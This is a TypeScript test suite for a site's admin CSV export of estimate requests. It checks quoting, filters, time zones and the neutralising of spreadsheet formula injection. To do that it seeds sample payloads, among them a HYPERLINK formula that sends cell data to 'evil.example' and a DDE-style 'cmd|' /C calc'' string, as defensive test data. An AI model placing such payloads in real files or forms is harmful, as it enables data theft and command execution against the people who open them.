/**
 * The CSV export (/admin/leads.csv) against the real server, on SQLite and (with
 * TEST_POSTGRES_URL) PostgreSQL: headers, byte order mark, the exact cells of requests written to
 * attack a spreadsheet (formula injection), commas, quotes and line breaks inside cells, the
 * inbox's filters, every matching row across export batches, and refused input.
 */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { databaseTargets } from "#tests/support/databases.ts";
import { expectServerHealthy, seedLead, setUpAdminSite, tearDownAdminSite, type AdminSite } from "#tests/support/admin-site.ts";
import { createLeadWithJobs, updateLeadStatus, type Lead } from "#app/server/repos/leads.server.ts";
import type { HttpResult } from "#tests/support/server.ts";
import { createLeadNote } from "#app/server/repos/lead-notes.server.ts";
import { isoInTimeZone } from "#app/server/time.server.ts";
import { saveVisit } from "#app/server/repos/visits.server.ts";

const targets = databaseTargets("admin-csv", "admin CSV suite");

const HEADER = [
  "id",
  "received",
  "name",
  "email",
  "phone",
  "subject",
  "message",
  "status",
  "spam reason",
  "source",
  "zip",
  "in service area",
  "street address",
  "contact method",
  "best time",
  "landing page",
  "referrer",
  "utm source",
  "utm medium",
  "utm campaign",
  "notes",
  "photos",
  "scheduled visit",
  "language",
];
/** The cells of the optional details and attribution for a request that has none. */
const NO_DETAILS = Array<string>(10).fill("");
/** A stored time as the export writes it: Houston's wall clock with the offset of that day. */
const local = (iso: string) => isoInTimeZone(iso, "America/Chicago");

/** A strict RFC 4180 reader: every cell must be quoted (as ours are); rows end with CR LF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let i = 0;
  while (i < text.length) {
    const row: string[] = [];
    for (;;) {
      if (text[i] !== '"') throw new Error(`unquoted cell at ${i}: ${JSON.stringify(text.slice(i, i + 30))}`);
      i += 1;
      let cell = "";
      for (;;) {
        const next = text.indexOf('"', i);
        if (next === -1) throw new Error("unterminated cell");
        cell += text.slice(i, next);
        if (text[next + 1] === '"') {
          cell += '"';
          i = next + 2;
        } else {
          i = next + 1;
          break;
        }
      }
      row.push(cell);
      if (text[i] === ",") {
        i += 1;
        continue;
      }
      if (text.startsWith("\r\n", i)) {
        i += 2;
        break;
      }
      throw new Error(`expected , or CR LF at ${i}: ${JSON.stringify(text.slice(i, i + 30))}`);
    }
    rows.push(row);
  }
  return rows;
}

function csvRows(res: HttpResult): string[][] {
  expect(res.status, res.text.slice(0, 300)).toBe(200);
  expect([...res.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return parseCsv(res.body.subarray(3).toString("utf8"));
}

const at = (minutes: number) => new Date(Date.parse("2026-11-20T12:00:00.000Z") + minutes * 60_000);

describe.each(targets)("CSV export on $name", (target) => {
  let site: AdminSite;
  const seeded: Record<string, Lead> = {};

  beforeAll(async () => {
    site = await setUpAdminSite(target);
    const leads: [string, Parameters<typeof seedLead>[1]][] = [
      [
        "hyperlink",
        {
          fromName: "+Plus Person",
          subject: '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
          email: "plus@home.test",
          // The optional details and the attribution are the visitor's text too.
          details: {
            zip: "77008",
            inServiceArea: true,
            streetAddress: "=SUM(A1:A9)",
            contactMethod: "call",
            bestTime: "-mornings",
            landingPage: "/",
            referrer: "@ref",
            utmSource: "+src",
            utmMedium: "cpc",
            utmCampaign: "=camp",
          },
        },
      ],
      ["minus", { fromName: "-Minus Person", subject: "-2+3", email: "minus@home.test", phone: "+1 713 555 0147" }],
      ["at", { fromName: "@At Person", subject: "@SUM(1+1)*cmd|' /C calc'!A0", email: "at@home.test" }],
      ["tabcr", { fromName: "Tab Person", subject: "\t=1+1", message: "\r=2+2 first line\nsecond", email: "tab@home.test" }],
      [
        "punctuation",
        {
          fromName: 'Smith, "Bob" Jr.',
          subject: "Deck, fence, and gate",
          message: 'He said "ASAP".\nSecond line, with a comma.\r\nThird line.',
          email: "bob@home.test",
        },
      ],
      ["accents", { fromName: "José Muñoz", subject: "Baño — ducha nueva", message: "Crème brûlée 🙂", email: "jose@casa.test" }],
    ];
    let minute = 0;
    for (const [key, fields] of leads) seeded[key] = (await seedLead(site, fields, { now: at((minute += 1)), jobs: [] })).lead;
    seeded.spam = (
      await seedLead(site, { isSpam: true, spamReason: "honeypot field filled", subject: "Cheap pills" }, { now: at((minute += 1)) })
    ).lead;
    await site.db((database) => updateLeadStatus({ db: database.db, id: seeded.minus!.id, status: "won" }));
  });

  afterAll(() => tearDownAdminSite(target, site));

  test("is a UTF-8 CSV attachment named with today's date, not cached", async () => {
    const res = await site.get("/admin/leads.csv");
    expect(res.status).toBe(200);
    expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(res.headers["content-disposition"]).toMatch(/^attachment; filename="estimate-requests-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers["cache-control"]).toMatch(/no-store/);
    const rows = csvRows(res);
    expect(rows[0]).toEqual(HEADER);
  });

  test("cells that start like a formula get a leading ', every quote is doubled, exactly", async () => {
    const rows = csvRows(await site.get("/admin/leads.csv"));
    const byId = new Map(rows.slice(1).map((row) => [row[0], row]));
    expect(byId.get(seeded.hyperlink!.id)).toEqual([
      seeded.hyperlink!.id,
      local(seeded.hyperlink!.created_at),
      "'+Plus Person",
      "plus@home.test",
      "(713) 555-0100",
      `'=HYPERLINK("http://evil.example/?d="&A1,"Click me")`,
      "Please call after 5 pm.",
      "new",
      "",
      "/contact",
      "77008",
      "yes",
      "'=SUM(A1:A9)",
      "call",
      "'-mornings",
      "/",
      "'@ref",
      "'+src",
      "cpc",
      "'=camp",
      "",
      "0",
      "",
      "English",
    ]);
    expect(byId.get(seeded.minus!.id)?.slice(2, 8)).toEqual([
      "'-Minus Person",
      "minus@home.test",
      "'+1 713 555 0147",
      "'-2+3",
      "Please call after 5 pm.",
      "won",
    ]);
    expect(byId.get(seeded.at!.id)?.slice(2, 6)).toEqual(["'@At Person", "at@home.test", "(713) 555-0100", "'@SUM(1+1)*cmd|' /C calc'!A0"]);
    expect(byId.get(seeded.tabcr!.id)?.slice(5, 7)).toEqual(["'\t=1+1", "'\r=2+2 first line\nsecond"]);

    // The raw bytes, for the two cells the issue names: quoted, quotes doubled, ' first.
    const raw = (await site.get("/admin/leads.csv")).text;
    expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click me"")"`);
    expect(raw).toContain(`"'+Plus Person"`);
    expect(raw).toContain(`"'-Minus Person"`);
    expect(raw).toContain(`"'@At Person"`);
  });

  test("commas, quotes and line breaks stay inside their cells; accents come through", async () => {
    const rows = csvRows(await site.get("/admin/leads.csv"));
    const byId = new Map(rows.slice(1).map((row) => [row[0], row]));
    expect(byId.get(seeded.punctuation!.id)?.slice(2, 7)).toEqual([
      'Smith, "Bob" Jr.',
      "bob@home.test",
      "(713) 555-0100",
      "Deck, fence, and gate",
      'He said "ASAP".\nSecond line, with a comma.\r\nThird line.',
    ]);
    expect(byId.get(seeded.accents!.id)?.slice(2, 7)).toEqual([
      "José Muñoz",
      "jose@casa.test",
      "(713) 555-0100",
      "Baño — ducha nueva",
      "Crème brûlée 🙂",
    ]);
    const raw = (await site.get("/admin/leads.csv")).text;
    expect(raw).toContain(`"Smith, ""Bob"" Jr."`);
  });

  test("uses the inbox's filters: open by default (no spam), a status, a search; newest first", async () => {
    const open = csvRows(await site.get("/admin/leads.csv")).slice(1);
    expect(open.map((row) => row[0])).toEqual(
      ["accents", "punctuation", "tabcr", "at", "minus", "hyperlink"].map((key) => seeded[key]!.id),
    );
    const spam = csvRows(await site.get("/admin/leads.csv?status=spam")).slice(1);
    expect(spam).toEqual([
      [
        seeded.spam!.id,
        local(seeded.spam!.created_at),
        ...spam[0]!.slice(2, 5),
        "Cheap pills",
        "Please call after 5 pm.",
        "spam",
        "honeypot field filled",
        "/contact",
        ...NO_DETAILS,
        "",
        "0",
        "",
        "English",
      ],
    ]);
    const won = csvRows(await site.get("/admin/leads.csv?status=won")).slice(1);
    expect(won.map((row) => row[0])).toEqual([seeded.minus!.id]);
    const search = csvRows(await site.get("/admin/leads.csv?q=MU%C3%B1OZ")).slice(1); // "MUñOZ"
    expect(search.map((row) => row[0])).toEqual([seeded.accents!.id]);
    const all = csvRows(await site.get("/admin/leads.csv?status=all&page=9")).slice(1);
    expect(all).toHaveLength(7);
  });

  test("times are Houston's with the offset: a 9:47 PM request is that day, winter and summer", async () => {
    const winter = (await seedLead(site, { subject: "Late winter request" }, { now: new Date("2026-11-25T03:47:00.000Z"), jobs: [] })).lead;
    const summer = (await seedLead(site, { subject: "Late summer request" }, { now: new Date("2026-07-15T02:47:00.000Z"), jobs: [] })).lead;
    const rows = csvRows(await site.get("/admin/leads.csv?q=late")).slice(1);
    expect(rows.map((row) => row.slice(0, 2))).toEqual([
      [winter.id, "2026-11-24T21:47:00-06:00"],
      [summer.id, "2026-07-14T21:47:00-05:00"],
    ]);
  });

  test("notes (each with its local time and author, formula-safe) and the photo count", async () => {
    const lead = (await seedLead(site, { subject: "Roof leak with notes" }, { now: at(30), jobs: [] })).lead;
    await site.db(async (database) => {
      const dialect = database.dialect;
      await createLeadNote({
        db: database.db,
        dialect,
        leadId: lead.id,
        authorId: site.admin.user.id,
        body: "Called back, visit Friday",
        now: new Date("2026-11-21T03:05:00.000Z"),
      });
      await createLeadNote({
        db: database.db,
        dialect,
        leadId: lead.id,
        authorId: null,
        body: '=1+1, "quoted"\nsecond line',
        now: new Date("2026-11-21T15:00:00.000Z"),
      });
      for (const position of [0, 1, 2]) {
        await database.db
          .insertInto("lead_photos")
          .values({
            id: crypto.randomUUID(),
            lead_id: lead.id,
            position,
            file_name: `IMG_${position}.jpg`,
            width: 800,
            height: 600,
            master_key: `private/${lead.id}/${position}.jpg`,
            master_width: 800,
            master_height: 600,
            variants: "[]",
            source_type: "image/jpeg",
            source_bytes: 1000,
            created_at: at(30).toISOString(),
          })
          .execute();
      }
    });
    const rows = csvRows(await site.get("/admin/leads.csv?q=roof+leak+with+notes")).slice(1);
    expect(rows).toHaveLength(1);
    expect(rows[0]!.slice(-4, -2)).toEqual([
      '2026-11-20T21:05:00-06:00 Alex Admin: Called back, visit Friday\n\n2026-11-21T09:00:00-06:00 (deleted account): =1+1, "quoted"\nsecond line',
      "3",
    ]);
    // A note that starts like a formula cannot start its cell: the cell starts with the time.
    const other = csvRows(await site.get("/admin/leads.csv?q=late")).slice(1);
    expect(other.every((row) => row.at(-4) === "" && row.at(-3) === "0")).toBe(true);
  });

  test("the scheduled visit: its start as the local wall clock with that day's offset; none, or cancelled, is empty", async () => {
    const seedVisit = (leadId: string, startsAt: string, status: "scheduled" | "cancelled") =>
      site.db((database) => {
        const id = crypto.randomUUID();
        const stamp = new Date().toISOString();
        return saveVisit({
          db: database.db,
          mode: "insert",
          jobs: [],
          visit: {
            id,
            lead_id: leadId,
            starts_at: startsAt,
            minutes: 120,
            status,
            sequence: 0,
            uid: `${id}@remodel.test`,
            note: null,
            reminder_job_id: null,
            created_at: stamp,
            updated_at: stamp,
            slot_start: null,
            booked_by: null,
          },
        });
      });
    const winter = (await seedLead(site, { subject: "Visit column winter" }, { now: at(40), jobs: [] })).lead;
    const summer = (await seedLead(site, { subject: "Visit column summer" }, { now: at(41), jobs: [] })).lead;
    const called = (await seedLead(site, { subject: "Visit column cancelled" }, { now: at(42), jobs: [] })).lead;
    const none = (await seedLead(site, { subject: "Visit column none" }, { now: at(43), jobs: [] })).lead;
    await seedVisit(winter.id, "2026-12-01T15:00:00.000Z", "scheduled");
    await seedVisit(summer.id, "2027-07-01T14:30:00.000Z", "scheduled");
    await seedVisit(called.id, "2026-12-02T15:00:00.000Z", "cancelled");
    const rows = csvRows(await site.get("/admin/leads.csv?q=visit+column")).slice(1);
    const byId = new Map(rows.map((row) => [row[0], row.at(-2)]));
    expect(rows[0]).toHaveLength(HEADER.length);
    expect(byId.get(winter.id)).toBe("2026-12-01T09:00:00-06:00");
    expect(byId.get(summer.id)).toBe("2027-07-01T09:30:00-05:00");
    expect(byId.get(called.id)).toBe("");
    expect(byId.get(none.id)).toBe("");
  });

  test("the language column: Spanish for a request sent from a Spanish page, English otherwise (ADR 064)", async () => {
    const spanish = (
      await seedLead(site, { subject: "Language column es", source: "/es/contacto", locale: "es" }, { now: at(50), jobs: [] })
    ).lead;
    const english = (await seedLead(site, { subject: "Language column en" }, { now: at(51), jobs: [] })).lead;
    const rows = csvRows(await site.get("/admin/leads.csv?q=language+column")).slice(1);
    expect(rows.map((row) => [row[0], row[9], row.at(-1)])).toEqual([
      [english.id, "/contact", "English"],
      [spanish.id, "/es/contacto", "Spanish"],
    ]);
  });

  test("nothing matching is a header row only", async () => {
    expect(csvRows(await site.get("/admin/leads.csv?q=nothing-like-this"))).toEqual([HEADER]);
  });

  test("an unknown status is refused with 400 and a message, not a different export", async () => {
    const res = await site.get("/admin/leads.csv?status=bogus");
    expect(res.status).toBe(400);
    expect(res.headers["content-type"]).toMatch(/^text\/plain/);
    expect(res.text).toContain(
      "“bogus” is not a status, so nothing was exported. Use one of: open, new, review, contacted, scheduled, quoted, won, done, lost, spam, all.",
    );
  });

  test("POST is refused with 405", async () => {
    const res = await site.post("/admin/leads.csv", { intent: "x" });
    expect(res.status).toBe(405);
    expect(res.headers.allow).toBe("GET");
  });

  test("every matching row, across export batches, once each, even with equal times", async () => {
    // 520 more (the export reads 500 at a time); 20 of them share one timestamp at the batch edge.
    await site.db(async (database) => {
      const base = Date.parse("2026-11-10T12:00:00.000Z");
      for (let i = 0; i < 520; i++) {
        const now = new Date(i >= 480 && i < 500 ? base + 480_000 : base + i * 1000);
        await createLeadWithJobs({
          db: database.db,
          lead: {
            fromName: `Bulk ${i}`,
            email: `bulk${i}@home.test`,
            phone: "(713) 555-0100",
            subject: `Bulk request ${i}`,
            message: "",
            source: "/",
            isSpam: false,
            spamReason: null,
            ipHash: null,
            userAgent: null,
          },
          buildJobs: () => [],
          giveUpAfterMs: 1000,
          now,
        });
      }
    });
    const rows = csvRows(await site.get("/admin/leads.csv?q=bulk+request")).slice(1);
    expect(rows).toHaveLength(520);
    expect(new Set(rows.map((row) => row[0])).size).toBe(520);
    const times = rows.map((row) => row[1]!);
    expect(times.toSorted().toReversed()).toEqual(times);
    // Header, the bulk rows, and the earlier tests' requests (6, 3, the 4 of the visit column, the 2 of the language column).
    expect(csvRows(await site.get("/admin/leads.csv")).length).toBe(1 + 520 + 6 + 3 + 4 + 2);
  });

  test("the server kept serving and logged no error", async () => {
    await expectServerHealthy(site);
  });
});
